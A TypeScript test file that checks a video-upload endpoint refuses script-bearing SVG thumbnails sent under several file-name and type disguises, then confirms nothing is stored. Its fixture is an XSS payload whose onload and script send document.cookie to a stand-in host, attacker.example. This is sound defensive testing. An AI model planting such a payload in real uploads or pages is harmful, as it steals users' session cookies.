/**
 * ASVS 5.2.7 (user-supplied SVG is refused) as the request arrives on the production configuration:
 * the thumbnail of the multipart video upload is the one place the site takes an image, and an SVG
 * carrying a script is sent there under every disguise a client can give it (its own name and type,
 * a `.png` name with `image/png`, a `.jpg` name, an XML prolog, a byte-order mark). Each is a 400
 * with the product's code, and nothing is stored: no file in the media store (local disk or the S3
 * bucket), no event, no catalog entry. A real PNG through the same request is the positive control.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { apiClient, forEachStore, startTestServer, TEST_ADMIN, type TestServer, tmpDir } from '../../test/harness.js';
import { bucketKeys, mediaKinds } from '../../test/s3.js';
import { enrolSecondFactor, login } from '../identity/identity.testkit.js';
import { filesUnder, makeImage, makeMp4 } from '../media/media.testkit.js';

const fixtures = tmpDir('svg-thumbnail-');
afterAll(() => fs.rmSync(fixtures, { recursive: true, force: true }));

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="32" height="32" onload="alert(document.cookie)">
  <script type="text/javascript">fetch('https://attacker.example/?c=' + document.cookie)</script>
  <rect width="32" height="32" fill="red"/>
</svg>
`;

/** The SVG as an attacker may dress it: file name, declared type and the bytes. */
const DISGUISES: { name: string; filename: string; type: string; bytes: string }[] = [
  { name: 'an SVG as itself', filename: 'evil.svg', type: 'image/svg+xml', bytes: SVG },
  { name: 'an SVG named .png with image/png', filename: 'thumb.png', type: 'image/png', bytes: SVG },
  { name: 'an SVG named .jpg with image/jpeg', filename: 'thumb.jpg', type: 'image/jpeg', bytes: SVG },
  {
    name: 'an SVG with an XML prolog and doctype, named .webp',
    filename: 'thumb.webp',
    type: 'image/webp',
    bytes: `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${SVG}`,
  },
  { name: 'an SVG behind a byte-order mark and blank lines', filename: 'thumb.png', type: 'image/png', bytes: `\uFEFF\n\n  ${SVG}` },
];

const REFUSED = {
  status: 400,
  body: { success: false, error: 'The thumbnail must be a JPEG, PNG or WebP image', code: 'validation.invalid_input' },
};

/** The admin form's multipart upload, with the thumbnail's name and declared type as the client chooses them. */
async function upload(
  server: TestServer,
  token: string,
  video: string,
  thumbnail: { filename: string; type: string; bytes: Buffer | string },
) {
  const form = new FormData();
  form.append('title', 'Thumbnail test');
  form.append('video', await fs.openAsBlob(video, { type: 'video/mp4' }), 'clip.mp4');
  form.append('thumbnail', new Blob([thumbnail.bytes], { type: thumbnail.type }), thumbnail.filename);
  const res = await fetch(`${server.url}/api/admin/upload-video`, {
    method: 'POST',
    body: form,
    headers: { authorization: `Bearer ${token}` },
  });
  return { status: res.status, body: (await res.json()) as { success: boolean; data?: { videoId: string }; error?: string } };
}

for (const media of mediaKinds())
  forEachStore(`an SVG thumbnail is refused and nothing is stored (production, ${media} media)`, (kind) => {
    let server: TestServer;
    let admin: string;
    let video: string;

    /** What the media store holds, from outside the server: the files under DATA_DIR/media and the bucket's keys. */
    const stored = async () => ({
      files: filesUnder(path.join(server.store.dataDir, 'media')).sort(),
      keys: server.bucket ? await bucketKeys(server.bucket.bucket) : [],
    });

    beforeAll(async () => {
      server = await startTestServer(kind, { env: { NODE_ENV: 'production', MAIL_TRANSPORT: 'outbox' }, media });
      const api = apiClient(server.url);
      // Production holds the admin to enrolment first (REQUIRE_ADMIN_2FA is on by default).
      admin = (await login(api, TEST_ADMIN.email, TEST_ADMIN.password)).token;
      await enrolSecondFactor(api, server.clock, admin);
      video = await makeMp4(fixtures, 2);
    });
    afterAll(async () => server?.close());

    it('every disguise of an SVG with a script: 400, no file, no event, no catalog entry; a real PNG goes through', async () => {
      const api = apiClient(server.url);
      const before = await stored();
      const head = await server.ctx.store.headPosition();
      for (const disguise of DISGUISES) {
        const r = await upload(server, admin, video, disguise);
        expect(r, disguise.name).toEqual(REFUSED);
      }
      expect(await stored()).toEqual(before);
      expect(await server.ctx.store.headPosition()).toBe(head);
      expect((await api.get('/admin/videos', admin)).body.data.total).toBe(0);

      // Positive control: the same request with a real PNG is stored, and its thumbnail is served as PNG.
      const png = await upload(server, admin, video, {
        filename: 'thumb.png',
        type: 'image/png',
        bytes: fs.readFileSync(await makeImage(fixtures, 'png')),
      });
      expect(png.status).toBe(201);
      const videoId = png.body.data?.videoId as string;
      const thumb = await fetch(`${server.url}/api/videos/${videoId}/thumbnail`, { headers: { authorization: `Bearer ${admin}` } });
      expect(thumb.status).toBe(200);
      expect(thumb.headers.get('content-type')).toBe('image/png');
      const after = await stored();
      expect(after.files.length + after.keys.length).toBeGreaterThan(before.files.length + before.keys.length);
    });
  });
